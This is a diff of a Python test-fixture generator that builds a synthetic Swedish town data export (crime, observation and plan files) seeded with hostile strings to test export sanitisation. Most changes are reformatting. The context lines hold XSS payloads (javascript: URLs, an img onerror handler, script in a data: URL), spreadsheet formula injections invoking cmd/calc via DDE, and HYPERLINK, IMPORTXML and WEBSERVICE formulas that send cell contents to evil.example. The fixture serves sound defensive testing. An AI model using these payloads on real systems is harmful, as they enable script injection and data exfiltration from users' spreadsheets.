@@ -41,12 +41,12 @@ from typing import Any
 
 __all__ = [
     "CLASSES",
-    "Hostile",
     "ExportTown",
+    "Hostile",
     "expected_shown",
-    "typable",
     "hostile_strings",
     "marker",
+    "typable",
     "write_export_town",
 ]
 
@@ -70,8 +70,8 @@ _HTML = [
     f"javascript:{PWN}",
     f"JaVaScRiPt&colon;{PWN}",
     f" \tjavascript:{PWN}",
-    f"data:text/html,<script>parent.__pwned=1</script>",
-    f'<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>',
+    "data:text/html,<script>parent.__pwned=1</script>",
+    '<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>',
     f'<math><mi xlink:href="javascript:{PWN}">x</mi></math>',
     f"</div></td></tr></table></details><img src=x onerror={PWN}>",
     f"<img src=x onerror={PWN}",
@@ -142,10 +142,10 @@ _FORMULA_TAILS = [
     'HYPERLINK("http://evil.example/?"&A1,"klick")',
     "1+1",
     "SUM(A1:A9)",
-    "DDE(\"cmd\";\"/C calc\";\"x\")",
+    'DDE("cmd";"/C calc";"x")',
     'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
     "2+5+cmd|' /C calc'!A0",
-    "WEBSERVICE(\"http://evil.example\")",
+    'WEBSERVICE("http://evil.example")',
 ]
 _HIDDEN = ["\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u2069", "\u200b", "\u200d",
            "\u200e", "\u200f", "\u061c", "\ufeff", "\u2060", "\u00ad"]  # fmt: skip
@@ -159,8 +159,8 @@ _MARKDOWN = [
     "a;b;c",
     'a"b""c',
     "rad ett\r\nrad två",
-    "sista;\"",
-    "\"; =1+1",
+    'sista;"',
+    '"; =1+1',
     ";;;;;;;;",
 ]
 
@@ -306,12 +306,16 @@ def write_export_town(folder: Path, *, seed: int = 0, n_per_field: int = 8) -> E
     planted = {f: pool[i * n_per_field : (i + 1) * n_per_field] for i, f in enumerate(fields)}
     # headers and file names are short in real life; the long class stays in the cells
     for f in ("incident header", "observation header", "file name", "title", "street name", "area name"):
-        planted[f] = [h if h.cls != "long" else Hostile(h.text[:300], h.cls, h.rule, h.marker) for h in planted[f]]
+        planted[f] = [
+            h if h.cls != "long" else Hostile(h.text[:300], h.cls, h.rule, h.marker) for h in planted[f]
+        ]
     fname = _file_safe(planted["file name"][0].text)
     town = ExportTown(
-        folder, folder / f"brott {fname}.csv", folder / f"vandring {_file_safe(planted['file name'][1].text)}.xlsx",
+        folder, folder / f"brott {fname}.csv",
+        folder / f"vandring {_file_safe(planted['file name'][1].text)}.xlsx",
         folder / "gator.gpkg", folder / "omraden.geojson", folder / "atgardsplan.csv",
-        folder / f"skolan {_file_safe(planted['file name'][2].text)}.txt", typable(planted["title"][0].text), planted,
+        folder / f"skolan {_file_safe(planted['file name'][2].text)}.txt",
+        typable(planted["title"][0].text), planted,
     )  # fmt: skip
     planted["file name"] = planted["file name"][:3]
     planted["title"] = planted["title"][:1]
@@ -329,8 +333,7 @@ def write_export_town(folder: Path, *, seed: int = 0, n_per_field: int = 8) -> E
         names.append(f"Tvärgatan {i + 1}" if i % 2 else take("street name", i + 7))
     gpd.GeoDataFrame({"name": names}, geometry=lines, crs="EPSG:3006").to_file(town.network, engine="pyogrio")
     # areas: four districts covering the town
-    quads = [box(x0 - 50, y0 - 50, x0 + 300, y0 + 300), box(x0 + 300, y0 - 50, x0 + 650, y0 + 300),
-             box(x0 - 50, y0 + 300, x0 + 300, y0 + 650), box(x0 + 300, y0 + 300, x0 + 650, y0 + 650)]  # fmt: skip
+    quads = [box(x0 + a, y0 + b, x0 + a + 350, y0 + b + 350) for b in (-50, 300) for a in (-50, 300)]
     gpd.GeoDataFrame(
         {"omradeskod": ["A1", "A2", "A3", "A4"], "namn": [take("area name", i) for i in range(4)],
          "befolkning": [1200, 900, 1500, 700]}, geometry=quads, crs="EPSG:3006",
@@ -338,7 +341,9 @@ def write_export_town(folder: Path, *, seed: int = 0, n_per_field: int = 8) -> E
 
     # incidents: 30 in one spot on a street, 30 more along another, and some with place text only
     xs = [x0 + 300 + rng.uniform(-20, 20) for _ in range(30)] + [x0 + 100 + 15 * i for i in range(30)]
-    ys = [y0 + 300 + rng.uniform(-1.5, 1.5) for _ in range(30)] + [y0 + 500 + rng.uniform(-1, 1) for _ in range(30)]
+    ys = [y0 + 300 + rng.uniform(-1.5, 1.5) for _ in range(30)] + [
+        y0 + 500 + rng.uniform(-1, 1) for _ in range(30)
+    ]
     lon, lat = pt._wgs84(xs, ys)
     header = ["Ärendenummer", "Brottstyp", "Datum", "Plats", "Latitud", "Longitud", "Anteckning"]
     header += [take("incident header", i) for i in range(len(planted["incident header"]))]
@@ -374,7 +379,9 @@ def write_export_town(folder: Path, *, seed: int = 0, n_per_field: int = 8) -> E
     for i in range(24):
         ox, oy = x0 + rng.choice([100, 300, 500]) + rng.uniform(-2, 2), y0 + rng.uniform(5, 595)
         (olon,), (olat,) = pt._wgs84([ox], [oy])
-        category = rng.choice(["Belysning", "Vegetation", "Klotter"]) if i % 2 else take("observation category", i)
+        category = (
+            rng.choice(["Belysning", "Vegetation", "Klotter"]) if i % 2 else take("observation category", i)
+        )
         row = [f"2025-{1 + i % 12:02d}-{1 + i % 27:02d}", take("observation place", i), category,
                take("observation note", i), take("observation measure", i), olat, olon,
                *[take("observation user column", i + j) for j in range(3)]]  # fmt: skip
@@ -389,9 +396,7 @@ def write_export_town(folder: Path, *, seed: int = 0, n_per_field: int = 8) -> E
                           take("plan notes", i)])  # fmt: skip
     with town.plan.open("w", encoding="utf-8-sig", newline="") as f:
         csv.writer(f, delimiter=";").writerows(plan_rows)
-    town.other.write_text(
-        "\n\n".join(take("other sources", i) for i in range(8)), encoding="utf-8"
-    )
+    town.other.write_text("\n\n".join(take("other sources", i) for i in range(8)), encoding="utf-8")
     return town
 
 
